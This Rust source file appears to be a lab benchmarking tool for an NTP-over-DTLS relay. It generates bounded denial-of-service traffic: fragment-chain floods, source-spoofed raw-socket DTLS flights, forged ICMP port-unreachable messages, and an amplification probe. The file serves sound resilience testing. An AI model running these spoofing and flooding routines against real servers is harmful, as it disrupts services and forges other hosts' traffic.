//! attack: issue 10's attacks from unauthenticated senders, at a given rate for a given time,
//! for `scripts/bench-attack.sh`. Not part of the product; loopback and lab use only.
//!
//!   attack chains  --target SERVER --rate 4 --duration 10     # ClientHello fragment chains/s
//!   attack epoch0  --from DEVICE --target SERVER --rate 8     # spoofed epoch-0 flights/s (root)
//!   attack icmp    --device DEVICE --server SERVER --rate 100 # forged port unreachables/s (root)
//!   attack amplify --target SERVER --ca ca.pem --rate 20      # ClientHello fragments/s
//!   attack ignored --target CLIENT_RELAY                      # 3 requests chronyd ignores / 1.5 s
//!
//! Each prints one key=value line: what it sent, and for `amplify` what came back. Every run
//! stops after --duration seconds.

use std::net::{SocketAddr, SocketAddrV4, UdpSocket};
use std::process::ExitCode;
use std::thread;
use std::time::{Duration, Instant};

use clap::{Parser, Subcommand};
use socket2::{Domain, Protocol, SockAddr, Socket, Type};

#[derive(Parser)]
#[command(about = "Issue 10's attacks, bounded, for the under-attack benchmark")]
struct Cli {
    #[command(subcommand)]
    attack: Attack,
    /// Seconds to run.
    #[arg(long, global = true, default_value_t = 10.0)]
    duration: f64,
}

#[derive(Subcommand)]
enum Attack {
    /// Chains of 2 500 one-byte fragments of a claimed 60 000-byte ClientHello, each chain from
    /// its own source port on 127.0.0.2-5.
    Chains {
        #[arg(long)]
        target: SocketAddr,
        /// Chains per second.
        #[arg(long, default_value_t = 4.0)]
        rate: f64,
    },
    /// From the device's address (spoofed): 77 datagrams of Certificate fragment chains and
    /// 900 of zero-length fragments per flight, as in the finding. Needs root.
    Epoch0 {
        #[arg(long)]
        from: SocketAddr,
        #[arg(long)]
        target: SocketAddr,
        /// Flights (977 datagrams each) per second.
        #[arg(long, default_value_t = 1.0)]
        rate: f64,
    },
    /// ICMP port unreachables quoting the device's datagrams to the server relay. Needs root.
    Icmp {
        #[arg(long)]
        device: SocketAddr,
        #[arg(long)]
        server: SocketAddr,
        /// Errors per second.
        #[arg(long, default_value_t = 100.0)]
        rate: f64,
    },
    /// One ClientHello, then 26-byte ClientHello fragments with message_seq 1; counts what the
    /// relay sends back to this never-verified address.
    Amplify {
        #[arg(long)]
        target: SocketAddr,
        /// The CA file a real client would trust (to build a real ClientHello).
        #[arg(long)]
        ca: std::path::PathBuf,
        /// Fragments per second.
        #[arg(long, default_value_t = 200.0)]
        rate: f64,
    },
    /// Three 49-byte mode-3 requests every 1.5 s (chronyd ignores them).
    Ignored {
        #[arg(long)]
        target: SocketAddr,
    },
}

fn record(content_type: u8, epoch: u16, seq: u64, body: &[u8]) -> Vec<u8> {
    let mut out = vec![content_type, 0xfe, 0xfd];
    out.extend_from_slice(&epoch.to_be_bytes());
    out.extend_from_slice(&seq.to_be_bytes()[2..]);
    out.extend_from_slice(&(body.len() as u16).to_be_bytes());
    out.extend_from_slice(body);
    out
}

fn fragment(msg_type: u8, length: u32, message_seq: u16, offset: u32, data: usize) -> Vec<u8> {
    let mut out = vec![msg_type];
    out.extend_from_slice(&length.to_be_bytes()[1..]);
    out.extend_from_slice(&message_seq.to_be_bytes());
    out.extend_from_slice(&offset.to_be_bytes()[1..]);
    out.extend_from_slice(&(data as u32).to_be_bytes()[1..]);
    out.extend(std::iter::repeat_n(0x41, data));
    out
}

fn checksum(bytes: &[u8]) -> u16 {
    let mut sum = 0u32;
    for pair in bytes.chunks(2) {
        sum += u32::from(u16::from_be_bytes([pair[0], *pair.get(1).unwrap_or(&0)]));
    }
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

fn v4(addr: SocketAddr) -> Result<SocketAddrV4, String> {
    match addr {
        SocketAddr::V4(a) => Ok(a),
        SocketAddr::V6(_) => Err(format!("IPv4 only: {addr}")),
    }
}

fn ip_udp_header(from: SocketAddrV4, to: SocketAddrV4, payload_len: usize) -> Vec<u8> {
    let total = (20 + 8 + payload_len) as u16;
    let mut ip = vec![0x45, 0, 0, 0, 0, 0, 0x40, 0, 64, 17, 0, 0];
    ip[2..4].copy_from_slice(&total.to_be_bytes());
    ip.extend_from_slice(&from.ip().octets());
    ip.extend_from_slice(&to.ip().octets());
    let sum = checksum(&ip);
    ip[10..12].copy_from_slice(&sum.to_be_bytes());
    ip.extend_from_slice(&from.port().to_be_bytes());
    ip.extend_from_slice(&to.port().to_be_bytes());
    ip.extend_from_slice(&((8 + payload_len) as u16).to_be_bytes());
    ip.extend_from_slice(&[0, 0]);
    ip
}

/// Calls `send(i)` `rate` times a second, in 10 ms ticks, until `duration`; returns the count.
fn paced(rate: f64, duration: Duration, mut send: impl FnMut(u64)) -> u64 {
    let started = Instant::now();
    let mut sent = 0u64;
    while started.elapsed() < duration {
        let due = (started.elapsed().as_secs_f64() * rate) as u64 + 1;
        while sent < due {
            send(sent);
            sent += 1;
        }
        thread::sleep(Duration::from_millis(10));
    }
    sent
}

/// A real first ClientHello of our client engine.
fn client_hello(ca: &std::path::Path) -> Result<Vec<u8>, String> {
    use ntp_dtls::proto::engine::{DtlsEngine, Engine};
    let peer: SocketAddr = "127.0.0.1:1".parse().map_err(|e| format!("{e}"))?;
    let settings =
        ntp_dtls::config::client_settings("127.0.0.1:1", Some("localhost"), ca, None, None)
            .map_err(|e| e.to_string())?;
    let mut engine = Engine::client(&settings).map_err(|e| e.to_string())?;
    engine
        .connect(Instant::now(), peer)
        .map_err(|e| e.to_string())?;
    engine
        .poll_transmit()
        .map(|t| t.datagram.to_vec())
        .ok_or_else(|| "the engine sent no ClientHello".to_string())
}

fn run(cli: Cli) -> Result<String, String> {
    let duration = Duration::from_secs_f64(cli.duration.clamp(0.0, 600.0));
    let e = |e: std::io::Error| e.to_string();
    match cli.attack {
        Attack::Chains { target, rate } => {
            let sockets: Vec<UdpSocket> = (0..4u8)
                .map(|i| UdpSocket::bind((std::net::Ipv4Addr::new(127, 0, 0, 2 + i), 0)))
                .collect::<Result<_, _>>()
                .map_err(e)?;
            let chain: Vec<Vec<u8>> = (0..2_500u32)
                .map(|o| record(22, 0, u64::from(o), &fragment(1, 60_000, 0, o, 1)))
                .collect();
            let bytes: usize = chain.iter().map(Vec::len).sum();
            // A chain is 2 500 datagrams: `rate` chains/s is 2 500 x rate datagrams/s.
            let datagrams = paced(rate * 2_500.0, duration, |i| {
                let socket = &sockets[(i / 2_500) as usize % sockets.len()];
                let _ = socket.send_to(&chain[(i % 2_500) as usize], target);
            });
            Ok(format!(
                "attack=chains datagrams={datagrams} bytes={}",
                datagrams as usize * bytes / 2_500
            ))
        }
        Attack::Epoch0 { from, target, rate } => {
            let raw = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(255))).map_err(e)?;
            let (from, to) = (v4(from)?, v4(target)?);
            let mut flight = Vec::new();
            for d in 0..77u32 {
                let body: Vec<u8> = (0..150u32)
                    .flat_map(|i| fragment(11, 60_000, 2, d * 150 + i, 1))
                    .collect();
                flight.push(record(22, 0, 1_000 + u64::from(d), &body));
            }
            for d in 0..900u64 {
                let body: Vec<u8> = (0..100).flat_map(|_| fragment(16, 66, 3, 0, 0)).collect();
                flight.push(record(22, 0, 2_000 + d, &body));
            }
            let per_flight = flight.len() as f64;
            let mut bytes = 0usize;
            let datagrams = paced(rate * per_flight, duration, |i| {
                let payload = &flight[i as usize % flight.len()];
                let mut packet = ip_udp_header(from, to, payload.len());
                packet.extend_from_slice(payload);
                bytes += payload.len();
                let _ = raw.send_to(&packet, &SockAddr::from(to));
            });
            Ok(format!("attack=epoch0 datagrams={datagrams} bytes={bytes}"))
        }
        Attack::Icmp {
            device,
            server,
            rate,
        } => {
            let icmp = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::ICMPV4)).map_err(e)?;
            let (device, server) = (v4(device)?, v4(server)?);
            let mut message = vec![3, 3, 0, 0, 0, 0, 0, 0];
            message.extend(ip_udp_header(device, server, 48));
            let sum = checksum(&message);
            message[2..4].copy_from_slice(&sum.to_be_bytes());
            let to = SockAddr::from(SocketAddrV4::new(*device.ip(), 0));
            let sent = paced(rate, duration, |_| {
                let _ = icmp.send_to(&message, &to);
            });
            Ok(format!("attack=icmp errors={sent}"))
        }
        Attack::Amplify { target, ca, rate } => {
            let hello = client_hello(&ca)?;
            let socket = UdpSocket::bind((std::net::Ipv4Addr::new(127, 0, 0, 9), 0)).map_err(e)?;
            socket.set_nonblocking(true).map_err(e)?;
            socket.send_to(&hello, target).map_err(e)?;
            let (mut bytes_in, mut bytes_out, mut datagrams_out) = (hello.len(), 0usize, 0usize);
            let mut buf = [0u8; 2048];
            let mut drain = |bytes_out: &mut usize, datagrams_out: &mut usize| {
                while let Ok(n) = socket.recv(&mut buf) {
                    *bytes_out += n;
                    *datagrams_out += 1;
                }
            };
            let piece = record(22, 0, 10, &fragment(1, 200, 1, 0, 1));
            let sent = paced(rate, duration, |_| {
                let _ = socket.send_to(&piece, target);
                bytes_in += piece.len();
                drain(&mut bytes_out, &mut datagrams_out);
            });
            thread::sleep(Duration::from_millis(500));
            drain(&mut bytes_out, &mut datagrams_out);
            Ok(format!(
                "attack=amplify fragments={sent} bytes_in={bytes_in} bytes_out={bytes_out} \
                 datagrams_out={datagrams_out}"
            ))
        }
        Attack::Ignored { target } => {
            let socket = UdpSocket::bind((std::net::Ipv4Addr::LOCALHOST, 0)).map_err(e)?;
            let mut request = vec![0u8; 49];
            request[0] = 0x23; // version 4, mode 3
            let sent = paced(2.0, duration, |i| {
                request[40..48].copy_from_slice(&(0xE000_0000_0000_0000u64 + i).to_be_bytes());
                let _ = socket.send_to(&request, target);
            });
            Ok(format!("attack=ignored requests={sent}"))
        }
    }
}

fn main() -> ExitCode {
    match run(Cli::parse()) {
        Ok(line) => {
            println!("{line}");
            ExitCode::SUCCESS
        }
        Err(e) => {
            eprintln!("attack: {e}");
            ExitCode::FAILURE
        }
    }
}
